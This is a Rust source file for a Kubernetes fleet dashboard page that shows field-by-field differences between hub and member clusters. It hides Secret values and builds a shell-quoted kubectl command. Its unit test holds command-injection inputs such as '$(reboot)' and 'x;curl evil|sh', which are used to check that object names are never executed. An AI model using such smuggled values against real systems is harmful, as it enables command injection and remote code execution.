//! Hub and member side by side, by path.

use fleet_api::placement::{BindingStatus, PatchDetail, ResourceIdentifier};
use fleet_core::apply::diff::{REDACTED, WHOLE_OBJECT};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
use maud::{Markup, html};

use super::{Page, Site, parts, typed::quoted};
use crate::view::{Name, View};

/// Clusters that differ; more than somebody compares at once.
const CLUSTERS: usize = 50;

pub(super) fn page(site: &Site<'_>, name: &Name) -> Page {
    let mut gathering = site.hub.gather();
    gathering.placement(name);
    let fleet = gathering.objects.fleet(&name.namespace, site.hub.clock.now());
    let mut differ: Vec<_> = fleet
        .bindings_of(&name.name)
        .filter_map(|binding| {
            binding
                .status
                .map(|status| (binding.spec.target_cluster.as_str(), status))
        })
        .filter(|(_, status)| !status.drifted_placements.is_empty() || !status.diffed_placements.is_empty())
        .collect();
    differ.sort_by_key(|(cluster, _)| *cluster);
    let body = html! {
        h1 { "Differences of " (parts::link(&View::placement(name.clone()), &name.shown())) }
        @if differ.is_empty() {
            (parts::empty(site, "No member reports a difference: what is there is what the hub says.", ""))
        }
        @for (cluster, status) in differ.iter().take(CLUSTERS) {
            section {
                h2 { (parts::link(&View::On(name.clone(), (*cluster).to_owned()), cluster)) }
                (of(site, status, cluster))
            }
        }
        @if differ.len() > CLUSTERS { p { "and " (differ.len() - CLUSTERS) " more clusters" } }
    };
    Page {
        title: format!("Differences of {}", name.shown()),
        command: format!(
            "kubectl fleet diff {}/{}{}",
            name.word("crp", "rp"),
            name.name,
            name.flag()
        ),
        body,
    }
}

/// What differs on one cluster.
pub(super) fn of(site: &Site<'_>, status: &BindingStatus, cluster: &str) -> Markup {
    html! {
        @for it in &status.drifted_placements {
            (one(site, &it.resource(), "was changed on the member", &it.first_drifted_observed_time, &it.observed_drifts, cluster))
        }
        @for it in &status.diffed_placements {
            // A drift says the same, and later.
            @if !status.drifted_placements.iter().any(|drifted| drifted.resource() == it.resource()) {
                (one(site, &it.resource(), "differs", &it.first_diffed_observed_time, &it.observed_diffs, cluster))
            }
        }
    }
}

fn one(
    site: &Site<'_>,
    id: &ResourceIdentifier,
    word: &str,
    since: &Time,
    fields: &[PatchDetail],
    cluster: &str,
) -> Markup {
    html! {
        div.difference {
            h3 { (parts::sign(parts::DRIFTED)) (title(id)) " " span.says { (word) " " (parts::when(since)) } }
            div.scroll tabindex="0" {
                table.sides {
                    thead { tr { th { "Field" } th { "Hub" } th { (cluster) } } }
                    tbody {
                        @for field in fields {
                            tr {
                                th scope="row" { code { (field.path) } }
                                td.hub { (value(id, &field.path, &field.value_in_hub)) }
                                td.member { (value(id, &field.path, &field.value_in_member)) }
                            }
                        }
                    }
                }
            }
            @if fields.is_empty() { p { "The object is not there on one side." } }
            // Members do not report it, and the dashboard speaks to the hub alone.
            p.next { "Which field manager did it: " (parts::command(site, &who(id, cluster))) }
        }
    }
}

/// The command that asks the member itself who has written a field.
fn who(id: &ResourceIdentifier, cluster: &str) -> String {
    let dot = if id.group.is_empty() { "" } else { "." };
    // What it is called is up to whoever made it: names of Roles, for one, may have any character.
    let object = quoted(&format!("{}{dot}{}/{}", id.kind.to_lowercase(), id.group, id.name));
    let namespace = match id.namespace.as_str() {
        "" => String::new(),
        namespace => format!(" -n {}", quoted(namespace)),
    };
    let cluster = quoted(cluster);
    format!("kubectl fleet why {object} {cluster}{namespace} --member-context {cluster}")
}

/// Objects that could not be applied, or are not available.
pub(super) fn failed(status: &BindingStatus) -> Markup {
    html! {
        @if !status.failed_placements.is_empty() {
            section aria-labelledby="failed" {
                h2 id="failed" { "Objects in trouble" }
                ul.failed {
                    @for it in &status.failed_placements {
                        li {
                            (parts::sign(parts::FAILED)) (title(&it.resource())) " "
                            span.since { (parts::when(&it.condition.last_transition_time)) }
                            p.cause { (it.condition.message) }
                        }
                    }
                }
            }
        }
    }
}

fn title(id: &ResourceIdentifier) -> String {
    let slash = if id.namespace.is_empty() { "" } else { "/" };
    format!("{} {}{slash}{}", id.kind, id.namespace, id.name)
}

/// A value as one side has it. What is secret is hidden already where it was compared; an older agent may not have.
fn value(id: &ResourceIdentifier, path: &str, value: &str) -> Markup {
    let secret = id.group.is_empty() && id.kind == "Secret";
    let shown = match value {
        "" => return html! { span.absent { "absent" } },
        WHOLE_OBJECT => WHOLE_OBJECT,
        _ if secret && (path.starts_with("/data") || path.starts_with("/stringData") || path.len() <= 1) => REDACTED,
        value => value,
    };
    html! { code { (shown) } }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_objects_are_called_is_never_run() {
        let command = |kind: &str, name: &str| {
            let id = ResourceIdentifier {
                kind: kind.into(),
                name: name.into(),
                namespace: "shop".into(),
                ..ResourceIdentifier::default()
            };
            who(&id, "east")
        };
        let end = "east -n shop --member-context east";
        for (name, typed) in [
            ("api", "role/api"),
            ("$(reboot)", "'role/$(reboot)'"),
            ("x;curl evil|sh", "'role/x;curl evil|sh'"),
            ("a\nb", "'role/a\nb'"),
            ("it's", r"'role/it'\''s'"),
            ("-n", "role/-n"),
        ] {
            assert_eq!(command("Role", name), format!("kubectl fleet why {typed} {end}"));
        }
        assert!(command("A`b`", "x").contains("'a`b`/x'"));
    }
}
